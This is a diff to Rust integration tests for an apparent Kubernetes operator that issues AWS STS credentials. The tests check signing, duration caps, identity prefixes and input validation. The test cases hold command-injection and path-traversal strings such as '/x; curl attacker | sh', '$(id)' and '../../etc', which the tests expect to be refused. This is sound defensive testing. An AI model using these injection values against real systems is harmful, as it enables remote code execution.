@@ -106,7 +106,11 @@ async fn session_methods_are_signed_by_the_teams_own_iam_user() {
     for action in ["GetSessionToken", "GetFederationToken"] {
         let sent = sts.raw(action);
         assert_eq!(sent.len(), 1, "{action}");
-        assert_eq!(signing_key(&sent[0]), user.access_key_id, "{action} signed by the team's user");
+        assert_eq!(
+            signing_key(&sent[0]),
+            user.access_key_id,
+            "{action} signed by the team's user"
+        );
         assert_ne!(&signing_key(&sent[0]), operator_key);
     }
     let st = ns.bindings().get("federated").await.unwrap().status.unwrap();
@@ -204,7 +208,12 @@ async fn a_grants_cap_holds_when_the_binding_sets_no_duration() {
     assert_eq!(sent[0].get("DurationSeconds").map(String::as_str), Some("900"));
     let st = ns.bindings().get("b").await.unwrap().status.unwrap();
     let subject = &st.subjects[0];
-    let lifetime = subject.expiration.as_ref().unwrap().0.duration_since(subject.issued_at.as_ref().unwrap().0);
+    let lifetime = subject
+        .expiration
+        .as_ref()
+        .unwrap()
+        .0
+        .duration_since(subject.issued_at.as_ref().unwrap().0);
     assert_eq!(lifetime.as_secs(), 900);
 }
 
@@ -217,9 +226,21 @@ async fn identity_attributes_carry_the_namespace_unless_a_grant_widens_them() {
     let sts = Forwarder::start().await;
     let _operator = Operator::start(&ns.name, &sts, &[]);
     let hostile = [
-        ("sname", "  sessionName: other-team.reports\n", "sessionName other-team.reports must start with"),
-        ("sident", "  sourceIdentity: ci-admin\n", "sourceIdentity ci-admin must start with"),
-        ("tags", "  sessionTags: {team: other}\n", "session tag key(s) team are not listed in sessionTagKeys"),
+        (
+            "sname",
+            "  sessionName: other-team.reports\n",
+            "sessionName other-team.reports must start with",
+        ),
+        (
+            "sident",
+            "  sourceIdentity: ci-admin\n",
+            "sourceIdentity ci-admin must start with",
+        ),
+        (
+            "tags",
+            "  sessionTags: {team: other}\n",
+            "session tag key(s) team are not listed in sessionTagKeys",
+        ),
     ];
     for (name, extra, _) in hostile {
         ns.apply_ok(&binding_yaml(name, &role, &["app"], extra));
@@ -232,7 +253,12 @@ async fn identity_attributes_carry_the_namespace_unless_a_grant_widens_them() {
 
     // The namespace's own prefix needs no grant.
     let own = format!("{}.reports", ns.name);
-    ns.apply_ok(&binding_yaml("own", &role, &["app"], &format!("  sessionName: {own}\n")));
+    ns.apply_ok(&binding_yaml(
+        "own",
+        &role,
+        &["app"],
+        &format!("  sessionName: {own}\n"),
+    ));
     wait_ready(&ns.bindings(), "own", "True", "CredentialsIssued").await;
     assert_eq!(sts.requests("AssumeRole")[0]["RoleSessionName"], own);
 
@@ -246,7 +272,10 @@ async fn identity_attributes_carry_the_namespace_unless_a_grant_widens_them() {
     let message = wait_ready(&ns.bindings(), "sname", "False", "RoleNotGranted").await;
     assert!(message.contains("sessionName other-team.reports"), "{message}");
     let sent = sts.requests("AssumeRole");
-    assert!(sent.iter().any(|p| p.get("SourceIdentity").map(String::as_str) == Some("ci-admin")));
+    assert!(
+        sent.iter()
+            .any(|p| p.get("SourceIdentity").map(String::as_str) == Some("ci-admin"))
+    );
     assert!(sent.iter().any(|p| {
         p.iter()
             .any(|(k, v)| k.starts_with("Tags.member.") && k.ends_with(".Key") && v == "team")
@@ -306,10 +335,16 @@ async fn shell_metacharacters_in_rendered_values_are_refused() {
     let ns = TestNamespace::new("inject").await;
     let good = format!("  roleArn: {ROLE}\n  subjects: [{{name: a}}]\n");
     let cases: Vec<(String, String)> = [
-        ("  secret: {mountPath: '/x; curl attacker | sh'}\n", "spec.secret.mountPath"),
+        (
+            "  secret: {mountPath: '/x; curl attacker | sh'}\n",
+            "spec.secret.mountPath",
+        ),
         ("  secret: {mountPath: '/x/$(id)'}\n", "spec.secret.mountPath"),
         ("  secret: {mountPath: '/x`id`'}\n", "spec.secret.mountPath"),
-        ("  secret: {mountPath: '/x/../../etc'}\n", "mountPath must not contain .. segments"),
+        (
+            "  secret: {mountPath: '/x/../../etc'}\n",
+            "mountPath must not contain .. segments",
+        ),
         ("  secret: {profile: 'p]\\n[default'}\n", "spec.secret.profile"),
         ("  region: 'us-east-1; id'\n", "spec.region"),
     ]
@@ -318,24 +353,65 @@ async fn shell_metacharacters_in_rendered_values_are_refused() {
     .collect();
     assert_refused(&ns, &cases).await;
     // What a path needs stays allowed.
-    ns.apply_ok(&binding("fine", &format!("{good}  secret: {{mountPath: /var/run/secrets/aws_creds-1.d}}\n")));
+    ns.apply_ok(&binding(
+        "fine",
+        &format!("{good}  secret: {{mountPath: /var/run/secrets/aws_creds-1.d}}\n"),
+    ));
 }
 
 #[tokio::test]
 async fn values_sts_refuses_are_refused_by_the_schema() {
     let ns = TestNamespace::new("stslimits").await;
     let good = format!("  roleArn: {ROLE}\n  subjects: [{{name: a}}]\n");
+    let long = "v".repeat(257);
     let cases: Vec<(String, String)> = [
-        ("  sessionTags: {team: 'a;b'}\n", "session tag values may hold only"),
-        ("  sessionTags: {'aws:team': a}\n", "keys starting with aws: are reserved"),
-        ("  sessionTags: {'AWS:team': a}\n", "keys starting with aws: are reserved"),
-        ("  sessionTags: {Team: a, team: b}\n", "must differ in more than case"),
+        ("  sessionTags: {team: 'a;b'}\n".to_string(), "spec.sessionTags.team"),
+        ("  sessionTags: {team: '$(id)'}\n".to_string(), "spec.sessionTags.team"),
+        (format!("  sessionTags: {{team: {long}}}\n"), "spec.sessionTags.team"),
+        (
+            "  sessionTags: {'aws:team': a}\n".to_string(),
+            "keys starting with aws: are reserved",
+        ),
+        (
+            "  sessionTags: {'AWS:team': a}\n".to_string(),
+            "keys starting with aws: are reserved",
+        ),
     ]
     .into_iter()
     .map(|(extra, expected)| (binding("limits", &format!("{good}{extra}")), expected.to_string()))
     .collect();
     assert_refused(&ns, &cases).await;
-    ns.apply_ok(&binding("fine", &format!("{good}  sessionTags: {{team: 'a b:c/d=e+f@g-h_i.j'}}\n")));
+    // AWS's whole character set passes the schema.
+    let rich = binding(
+        "rich",
+        &format!("{good}  sessionTags: {{'team:x': 'a b:c/d=e+f@g-h_i.j'}}\n"),
+    );
+    let out = kubectl(
+        &["apply", "-n", &ns.name, "--server-side", "--dry-run=server", "-f", "-"],
+        Some(&rich),
+    );
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+
+    // Keys equal but for case are past what CEL may cost: the operator refuses them, with no
+    // STS call; distinct keys are issued.
+    ns.service_account("a").await;
+    let role = create_role(&unique("role"), &operator_arn(), None, true);
+    apply_grant(&ns, &format!("  roleArns: [\"{role}\"]\n  sessionTagKeys: [\"*\"]\n"));
+    let sts = Forwarder::start().await;
+    let _operator = Operator::start(&ns.name, &sts, &[]);
+    let subject = "  subjects: [{name: a}]\n";
+    ns.apply_ok(&binding(
+        "case",
+        &format!("  roleArn: {role}\n{subject}  sessionTags: {{Team: a, team: b}}\n"),
+    ));
+    let message = wait_ready(&ns.bindings(), "case", "False", "InvalidSpec").await;
+    assert!(message.contains("Team and team differ only in case"), "{message}");
+    assert_eq!(sts.total(), 0);
+    ns.apply_ok(&binding(
+        "fine",
+        &format!("  roleArn: {role}\n{subject}  sessionTags: {{Team: a, teams: platform-a_1.x}}\n"),
+    ));
+    wait_ready(&ns.bindings(), "fine", "True", "CredentialsIssued").await;
 }
 
 #[tokio::test]
